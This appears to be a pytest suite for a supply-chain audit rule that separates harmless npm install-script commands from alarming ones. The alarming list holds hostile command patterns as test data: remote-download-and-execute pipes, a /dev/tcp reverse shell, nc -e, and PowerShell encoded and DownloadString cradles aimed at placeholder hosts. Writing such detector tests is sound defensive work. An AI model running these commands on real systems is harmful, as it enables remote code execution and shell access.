from __future__ import annotations

import time

import pytest

from audit.rules.uses.commands import is_alarming

HARMLESS = [
    "node install.js", "node-gyp rebuild", "npm run build", "husky", "tsc -p .", "node ./scripts/curl-config.js",
    "patch-package", "node -e \"console.log('thank you')\"", "opencollective-postinstall || true", "npx only-allow npm",
    "node -e \"try{require('./postinstall')}catch(e){}\"", "echo done > shell.txt", "cat a | sort", "node lib/sh",
    "node-gyp rebuild || node suppress-error.js", "test -d lib || sh build.sh",
]  # fmt: skip


@pytest.mark.parametrize("command", HARMLESS)
def test_silent(command: str) -> None:
    assert not is_alarming(command)


ALARMING = [
    "curl https://x.invalid", "cd /tmp && wget -q x.invalid", "sh -c 'curl x.invalid'", "/usr/bin/curl x",
    "$(curl x.invalid)",
    "cat p | sh", "cat p | sudo bash -s", "echo x|base64 -d", "bash <(true)", "bash -i >& /dev/tcp/1.invalid/2",
    "powershell -nop -enc AAA", "IEX (New-Object Net.WebClient).DownloadString('x')",
    "node -e \"eval(atob('dHJ1ZQ=='))\"",
    "cat p.txt | node", "node --eval='require(`child_process`)'", "CURL.EXE x", "nc -e true x.invalid 1",
]  # fmt: skip


@pytest.mark.parametrize("command", ALARMING)
def test_firing(command: str) -> None:
    assert is_alarming(command)


@pytest.mark.parametrize(
    "text", ["|" + " " * 200_000, "powershell " * 20_000, "node -a" * 30_000, "sudo " * 50_000]
)
def test_hostile_commands_take_bounded_time(text: str) -> None:
    started = time.process_time()
    is_alarming("x | " + text)
    assert time.process_time() - started < 1
